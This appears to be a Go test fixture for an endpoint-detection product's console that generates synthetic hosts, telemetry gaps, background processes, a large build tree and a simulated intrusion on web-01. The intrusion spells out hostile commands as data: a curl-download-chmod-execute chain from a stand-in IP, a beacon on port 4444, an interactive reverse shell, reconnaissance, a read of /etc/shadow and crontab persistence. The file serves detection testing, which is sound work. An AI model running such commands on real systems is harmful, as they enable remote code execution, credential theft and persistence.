package console_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"

	"github.com/vedette-edr/vedette/internal/api"
	"github.com/vedette-edr/vedette/internal/event"
)

// world is what the browser tests see: hosts, their events, and the alerts of
// an intrusion on web-01. It only exists in tests.
type world struct {
	now    time.Time
	rng    *rand.Rand
	seq    map[string]int64
	hosts  []api.Host
	events []*event.Event // the oldest first
	procs  map[string]*event.Event
	alerts []api.Alert
	rules  map[string]api.RuleDetail
	tracks map[string][]api.Interval
	gaps   []api.Gap
	attack map[string]*event.Event // steps of the intrusion, by name
}

func newWorld(now time.Time) *world {
	w := &world{
		now: now, rng: rand.New(rand.NewPCG(1, 2)), seq: map[string]int64{}, procs: map[string]*event.Event{},
		rules: map[string]api.RuleDetail{}, tracks: map[string][]api.Interval{}, attack: map[string]*event.Event{},
	}
	w.addHosts()
	w.addRules()
	w.addBackground()
	w.addIntrusion()
	w.addBuild()
	w.addNoise()
	slices.SortStableFunc(w.events, func(a, b *event.Event) int { return int(a.Time - b.Time) })
	return w
}

func (w *world) addHosts() {
	names := []string{"web-01", "web-02", "web-03", "db-01", "db-02", "build-03", "mail-01", "vpn-01", "kube-n1", "kube-n2", "kube-n3", "laptop-anna", "laptop-jo", "files-01"}
	for i, name := range names {
		h := api.Host{
			ID: fmt.Sprintf("0192f3a%x", 0x10+i), Name: name, Group: []string{"default", "servers"}[min(1, len(name)%2)], Status: "online", Telemetry: api.Complete,
			OS: "Debian GNU/Linux 13", Kernel: "6.12.48+deb13-amd64", Architecture: "amd64", Version: "0.1.0", Address: fmt.Sprintf("10.20.%d.%d", i/5, 10+i),
			Enrolled: w.now.Add(-time.Duration(90-i) * 24 * time.Hour), Connected: w.now.Add(-time.Duration(5+i) * time.Hour), LastSeen: w.now.Add(-3 * time.Second),
			LastEvent: w.now.Add(-time.Second), EventRate: 3 + 40*w.rng.Float64(),
			Agent:     api.AgentUse{CPUMillis: 901_000, CPUPercent: 0.3 + 2*w.rng.Float64(), ResidentSize: 38_000_000 + int64(i)*1_700_000, SpoolBytes: 4_200_000},
			System:    api.SystemUse{At: w.now.Add(-20 * time.Second), CPUPercent: 23, MemoryUsed: 5_100_000_000, MemoryTotal: 16_700_000_000, DiskUsed: 81_000_000_000, DiskTotal: 210_000_000_000, Uptime: 3_200_000},
			Documents: []api.Document{{Kind: "policy", Wanted: 4, Applied: 4}, {Kind: "rules", Wanted: 12, Applied: 12}},
			Counters:  []api.Counter{{Stage: "kernel", Name: "seen", Value: 8_123_456}, {Stage: "kernel", Name: "dropped"}, {Stage: "queue", Name: "shed"}, {Stage: "spool", Name: "written", Value: 8_120_001}},
		}
		for _, s := range []string{"exec", "file", "net"} {
			h.Sensors = append(h.Sensors, api.SensorState{Name: s, Rung: "tp_btf", Since: h.Connected, Events: 1_000_000 + w.rng.Int64N(3_000_000)})
		}
		for i, row := range []string{"Process Creation", "File Creation", "Network Connection"} {
			h.Rows = append(h.Rows, api.Row{Name: row, Weight: 1, Sensors: []string{h.Sensors[i].Name}, Sources: []string{h.Sensors[i].Name + ".tp_btf"}, Since: h.Connected, Events: h.Sensors[i].Events})
		}
		h.Rows = append(h.Rows, api.Row{Name: "Agent Start", Weight: 0.2, Sensors: []string{}, Sources: []string{"agent"}, Since: h.Connected, Events: 1})
		w.hosts = append(w.hosts, h)
		w.tracks[h.ID] = []api.Interval{{From: w.now.Add(-30 * 24 * time.Hour), To: w.now, State: api.Complete}}
	}
	w.degrade("build-03", api.Degraded, 3*time.Hour, 12*time.Minute, 1841, "queue", "file", "queue full: file_write was shed")
	w.degrade("kube-n2", api.Degraded, 9*time.Hour, 40*time.Minute, 220, "kernel", "net", "ring buffer full")
	w.degrade("db-02", api.Blind, 720*time.Hour, 720*time.Hour, -1, "sensor", "file", "tp_btf: the kernel has no BTF; no other source")
	w.degrade("laptop-jo", api.Blind, 5*time.Hour, 5*time.Hour, -1, "agent", "", "no heartbeat")
	for i := range w.hosts {
		switch w.hosts[i].Name {
		case "laptop-jo":
			w.hosts[i].Status, w.hosts[i].Telemetry, w.hosts[i].LastSeen, w.hosts[i].EventRate = "offline", api.Blind, w.now.Add(-5*time.Hour), 0
		case "db-02":
			w.hosts[i].Kernel, w.hosts[i].OS = "4.19.0-27-amd64", "Debian GNU/Linux 10"
			w.hosts[i].Sensors[0] = api.SensorState{Name: "exec", Rung: "connector", Since: w.hosts[i].Connected, Reason: "tp_btf: the kernel has no BTF; proc events need no BPF", Events: 220_000}
			w.hosts[i].Sensors[1] = api.SensorState{Name: "file", Reason: "tp_btf: the kernel has no BTF; no other source"}
			w.hosts[i].Sensors[2] = api.SensorState{Name: "net", Rung: "sock_diag", Since: w.hosts[i].Connected, Reason: "tp_btf: the kernel has no BTF", Events: 90_000, Lost: 12}
			better := []api.Better{{Rung: "tp_btf", Why: "the kernel has no BTF", Needs: "Linux 5.17 or later with CONFIG_DEBUG_INFO_BTF"}}
			for k, unseen := range []string{"programs that end before /proc is read", "", "connections that end between two scans"} {
				w.hosts[i].Sensors[k].Better, w.hosts[i].Sensors[k].Unseen = better, unseen
			}
			w.hosts[i].Rows[0].Sources, w.hosts[i].Rows[1].Sources, w.hosts[i].Rows[2].Sources = []string{"exec.connector"}, []string{}, []string{"net.sock_diag"}
			w.hosts[i].Rows[2].Lost = 12
			w.hosts[i].Telemetry = api.Degraded
		case "build-03":
			w.hosts[i].Telemetry, w.hosts[i].EventRate, w.hosts[i].Agent.CPUPercent = api.Degraded, 840, 5.6
		}
	}
}

func (w *world) host(name string) *api.Host {
	for i := range w.hosts {
		if w.hosts[i].Name == name || w.hosts[i].ID == name {
			return &w.hosts[i]
		}
	}
	return nil
}

func (w *world) degrade(host, state string, ago, length time.Duration, lost int64, stage, sensor, reason string) {
	h := w.host(host)
	from, to := w.now.Add(-ago), w.now.Add(-ago+length)
	w.tracks[h.ID] = append(w.tracks[h.ID], api.Interval{From: from, To: to, State: state, Lost: lost, Reason: reason})
	w.gaps = append(w.gaps, api.Gap{Host: h.ID, HostName: host, From: from, To: to, State: state, Stage: stage, Sensor: sensor, Lost: lost, Reason: reason})
}

// put numbers an event and keeps it.
func (w *world) put(host string, at time.Time, kind event.Kind, fill func(*event.Event)) *event.Event {
	h := w.host(host)
	w.seq[h.ID]++
	e := &event.Event{Time: event.At(at), Ingested: event.At(at.Add(180 * time.Millisecond)), Kind: kind, Agent: h.ID, Epoch: 1, Sequence: w.seq[h.ID], HostName: host, Outcome: "success"}
	fill(e)
	switch e.Kind.Category() {
	case "process":
		e.Provider = "exec"
	case "network":
		e.Provider = "net"
	case "file":
		e.Provider = "file"
	}
	e.Rung = "tp_btf"
	w.events = append(w.events, e)
	return e
}

// start runs a program below a parent.
func (w *world) start(host, parent string, at time.Time, user, exe string, args ...string) string {
	h := w.host(host)
	pid := 400 + int64(len(w.procs))*3%60000
	entity := fmt.Sprintf("%s-%d-%x", h.ID, pid, at.UnixMicro()&0xffffff)
	uid := map[string]string{"root": "0", "www-data": "33", "anna": "1000", "ci": "1001", "postgres": "106"}[user]
	e := w.put(host, at, event.ProcessStart, func(e *event.Event) {
		e.Process = &event.Process{
			EntityID: entity, PID: pid, Name: exe[strings.LastIndex(exe, "/")+1:], Executable: exe, CommandLine: strings.Join(args, " "), Args: args, ArgsCount: int64(len(args)),
			WorkingDirectory: "/", Start: event.At(at), SessionID: 1, Hash: hashes(exe),
		}
		e.User = &event.User{ID: uid, Name: user, EffectiveID: uid, EffectiveName: user, GroupID: uid, GroupName: user}
		if p := w.procs[parent]; p != nil {
			e.Process.Parent = &event.Parent{EntityID: p.Process.EntityID, PID: p.Process.PID, Name: p.Process.Name, Executable: p.Process.Executable, CommandLine: p.Process.CommandLine}
			a := &event.Ancestors{EntityIDs: []string{p.Process.EntityID}, Names: []string{p.Process.Name}, Executables: []string{p.Process.Executable}, CommandLines: []string{p.Process.CommandLine}}
			if up := p.Process.Ancestors; up != nil {
				a.EntityIDs, a.Names = append(a.EntityIDs, up.EntityIDs...), append(a.Names, up.Names...)
				a.Executables, a.CommandLines = append(a.Executables, up.Executables...), append(a.CommandLines, up.CommandLines...)
			}
			e.Process.Ancestors = a
		}
	})
	w.procs[entity] = e
	return entity
}

func hashes(of string) *event.Hash {
	s := sha256.Sum256([]byte(of))
	text := hex.EncodeToString(s[:])
	return &event.Hash{MD5: text[:32], SHA1: text[:40], SHA256: text}
}

// by puts an event of a process.
func (w *world) by(entity string, at time.Time, kind event.Kind, fill func(*event.Event)) *event.Event {
	p := w.procs[entity]
	return w.put(p.HostName, at, kind, func(e *event.Event) {
		e.Process, e.User = p.Process, p.User
		fill(e)
	})
}

func (w *world) exit(entity string, at time.Time, code int64) {
	p := *w.procs[entity].Process
	p.End, p.ExitCode = event.At(at), event.Some(code)
	w.put(w.procs[entity].HostName, at, event.ProcessEnd, func(e *event.Event) { e.Process, e.User = &p, w.procs[entity].User })
}

func (w *world) wrote(entity string, at time.Time, path string) *event.Event {
	return w.by(entity, at, event.FileWrite, func(e *event.Event) {
		e.File = &event.File{Path: path, Name: path[strings.LastIndex(path, "/")+1:], Directory: path[:strings.LastIndex(path, "/")], Type: "file", Size: event.Some(48_192), Mode: "0644", UID: e.User.ID, Owner: e.User.Name, Hash: hashes(path)}
	})
}

func (w *world) connected(entity string, at time.Time, ip string, port int64) *event.Event {
	return w.by(entity, at, event.NetConnect, func(e *event.Event) {
		e.Net = &event.Net{SourceIP: netip.MustParseAddr("10.20.0.10"), SourcePort: 40000 + w.rng.Int64N(20000), DestinationIP: netip.MustParseAddr(ip), DestinationPort: port, Transport: "tcp", Type: "ipv4", Direction: "egress"}
	})
}

// addBackground is a day of ordinary work on all hosts.
func (w *world) addBackground() {
	programs := []struct{ user, exe, args string }{
		{"root", "/usr/bin/find", "find /var/log -mtime +7 -name *.gz"}, {"root", "/usr/bin/apt-get", "apt-get -qq update"}, {"postgres", "/usr/lib/postgresql/17/bin/postgres", "postgres: autovacuum worker"},
		{"anna", "/usr/bin/git", "git fetch --prune origin"}, {"anna", "/usr/bin/python3", "python3 manage.py collectstatic --noinput"}, {"root", "/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"},
		{"www-data", "/usr/bin/php8.4", "php8.4 /srv/app/artisan schedule:run"}, {"root", "/usr/bin/systemctl", "systemctl is-active nginx"}, {"ci", "/usr/bin/node", "node node_modules/.bin/vite build"}, {"root", "/usr/bin/dpkg", "dpkg --configure -a"},
	}
	for _, h := range w.hosts {
		init := w.start(h.Name, "", w.now.Add(-26*time.Hour), "root", "/usr/lib/systemd/systemd", "/sbin/init")
		cron := w.start(h.Name, init, w.now.Add(-26*time.Hour+time.Second), "root", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
		sshd := w.start(h.Name, init, w.now.Add(-26*time.Hour+2*time.Second), "root", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")
		for range 130 {
			at := w.now.Add(-time.Duration(w.rng.Int64N(int64(24 * time.Hour))))
			if h.Name == "laptop-jo" && at.After(w.now.Add(-5*time.Hour)) {
				continue
			}
			p := programs[w.rng.IntN(len(programs))]
			parent := []string{cron, sshd}[w.rng.IntN(2)]
			id := w.start(h.Name, parent, at, p.user, p.exe, strings.Fields(p.args)...)
			if w.rng.IntN(2) == 0 {
				w.wrote(id, at.Add(40*time.Millisecond), fmt.Sprintf("/var/cache/app/%04x.tmp", w.rng.IntN(65536)))
			}
			if w.rng.IntN(3) == 0 {
				w.connected(id, at.Add(60*time.Millisecond), []string{"151.101.2.132", "140.82.121.4", "10.20.0.13", "10.20.1.16"}[w.rng.IntN(4)], []int64{443, 443, 5432, 22}[w.rng.IntN(4)])
			}
			w.exit(id, at.Add(time.Duration(100+w.rng.IntN(4000))*time.Millisecond), 0)
		}
	}
}

// find returns the process of a host with a name.
func (w *world) find(host, name string) string {
	for id, e := range w.procs {
		if e.HostName == host && e.Process.Name == name && (e.Process.Parent == nil || e.Process.Parent.Name == "systemd") {
			return id
		}
	}
	return ""
}

// addIntrusion is the story of web-01.
func (w *world) addIntrusion() {
	t := w.now.Add(-22 * time.Minute)
	after := func(s float64) time.Time { return t.Add(time.Duration(s * float64(time.Second))) }
	nginx := w.start("web-01", w.find("web-01", "systemd"), w.now.Add(-25*time.Hour), "root", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx")
	if w.find("web-01", "systemd") == "" {
		nginx = w.start("web-01", "", w.now.Add(-25*time.Hour), "root", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx")
	}
	worker := w.start("web-01", nginx, w.now.Add(-25*time.Hour+time.Second), "www-data", "/usr/sbin/nginx", "nginx: worker process")
	php := w.start("web-01", worker, after(-600), "www-data", "/usr/sbin/php-fpm8.4", "php-fpm: pool www")
	for i := range 9 {
		id := w.start("web-01", php, after(-500+float64(i)*40), "www-data", "/usr/bin/convert", "convert", fmt.Sprintf("/srv/upload/%d.png", i), "-resize", "200x200", fmt.Sprintf("/srv/thumb/%d.png", i))
		w.wrote(id, after(-499+float64(i)*40), fmt.Sprintf("/srv/thumb/%d.png", i))
		w.exit(id, after(-498.5+float64(i)*40), 0)
	}
	sh := w.start("web-01", php, after(0), "www-data", "/usr/bin/dash", "sh", "-c", "curl -s http://203.0.113.7/k -o /tmp/.x/kworker; chmod +x /tmp/.x/kworker; /tmp/.x/kworker")
	w.attack["shell"] = w.procs[sh]
	curl := w.start("web-01", sh, after(0.01), "www-data", "/usr/bin/curl", "curl", "-s", "http://203.0.113.7/k", "-o", "/tmp/.x/kworker")
	w.attack["download"] = w.procs[curl]
	w.connected(curl, after(0.03), "203.0.113.7", 80)
	w.wrote(curl, after(0.4), "/tmp/.x/kworker")
	w.exit(curl, after(0.41), 0)
	chmod := w.start("web-01", sh, after(0.42), "www-data", "/usr/bin/chmod", "chmod", "+x", "/tmp/.x/kworker")
	w.by(chmod, after(0.43), event.FileChmod, func(e *event.Event) {
		e.File = &event.File{Path: "/tmp/.x/kworker", Name: "kworker", Directory: "/tmp/.x", Type: "file", PreviousMode: "0644", Mode: "0755"}
	})
	w.exit(chmod, after(0.44), 0)
	kworker := w.start("web-01", sh, after(0.45), "www-data", "/tmp/.x/kworker", "/tmp/.x/kworker")
	w.attack["run"] = w.procs[kworker]
	w.attack["beacon"] = w.connected(kworker, after(0.6), "198.51.100.23", 4444)
	bash := w.start("web-01", kworker, after(3), "www-data", "/usr/bin/bash", "bash", "-i")
	w.attack["reverse"] = w.procs[bash]
	for i, c := range []string{"id", "uname -a", "whoami", "ps aux", "ss -tlnp", "ls -la /root", "find / -perm -4000 -type f"} {
		p := w.start("web-01", bash, after(6+float64(i)*4), "www-data", "/usr/bin/"+strings.Fields(c)[0], strings.Fields(c)...)
		w.exit(p, after(6.1+float64(i)*4), 0)
	}
	cat := w.start("web-01", bash, after(41), "www-data", "/usr/bin/cat", "cat", "/etc/shadow")
	w.attack["shadow"] = w.by(cat, after(41.01), event.FileOpen, func(e *event.Event) {
		e.File, e.Outcome, e.ErrorCode = &event.File{Path: "/etc/shadow", Name: "shadow", Directory: "/etc", Type: "file", Mode: "0640", OpenFlags: "O_RDONLY"}, "failure", "EACCES"
	})
	w.exit(cat, after(41.02), 1)
	tab := w.start("web-01", bash, after(55), "www-data", "/usr/bin/crontab", "crontab", "/tmp/.x/c")
	w.attack["cron"] = w.wrote(tab, after(55.02), "/var/spool/cron/crontabs/www-data")
	w.exit(tab, after(55.04), 0)

	w.raise("shell", "rule-web-shell", 1)
	w.raise("download", "rule-download", 1)
	w.raise("run", "rule-run-tmp", 1)
	w.raise("beacon", "rule-port", 6)
	w.raise("reverse", "rule-reverse", 1)
	w.raise("shadow", "rule-shadow", 3)
	w.raise("cron", "rule-cron", 1)
}

// addBuild is a process tree of more than 500 nodes.
func (w *world) addBuild() {
	t := w.now.Add(-3 * time.Hour)
	ci := w.start("build-03", w.find("build-03", "systemd"), t, "ci", "/usr/bin/runner", "runner", "job", "4711")
	mk := w.start("build-03", ci, t.Add(time.Second), "ci", "/usr/bin/make", "make", "-j16")
	for i := range 120 {
		at := t.Add(time.Duration(2000+i*300) * time.Millisecond)
		gcc := w.start("build-03", mk, at, "ci", "/usr/bin/gcc", "gcc", "-O2", "-c", fmt.Sprintf("src/unit%03d.c", i))
		cc1 := w.start("build-03", gcc, at.Add(5*time.Millisecond), "ci", "/usr/libexec/gcc/cc1", "cc1", fmt.Sprintf("src/unit%03d.c", i))
		as := w.start("build-03", gcc, at.Add(200*time.Millisecond), "ci", "/usr/bin/as", "as", "-o", fmt.Sprintf("unit%03d.o", i))
		w.wrote(as, at.Add(210*time.Millisecond), fmt.Sprintf("/srv/build/unit%03d.o", i))
		for _, p := range []string{cc1, as, gcc} {
			w.exit(p, at.Add(220*time.Millisecond), 0)
		}
		tee := w.start("build-03", mk, at.Add(250*time.Millisecond), "ci", "/usr/bin/tee", "tee", "-a", "build.log")
		w.exit(tee, at.Add(260*time.Millisecond), 0)
	}
	w.attack["build"] = w.procs[w.start("build-03", mk, t.Add(45*time.Second), "ci", "/usr/bin/nohup", "nohup", "./watch.sh")]
	w.raise("build", "rule-nohup", 1)
}
